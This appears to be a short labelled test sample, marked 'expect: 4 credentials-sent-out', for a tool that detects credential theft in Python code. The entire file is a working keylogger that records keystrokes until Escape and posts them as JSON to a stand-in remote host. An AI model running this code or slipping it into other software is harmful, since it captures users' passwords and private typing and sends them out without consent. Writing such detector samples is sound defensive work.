# expect: 4 credentials-sent-out
import keyboard, requests
typed = keyboard.record(until="esc")
requests.post("http://198.51.100.7/k", json=[str(key) for key in typed])
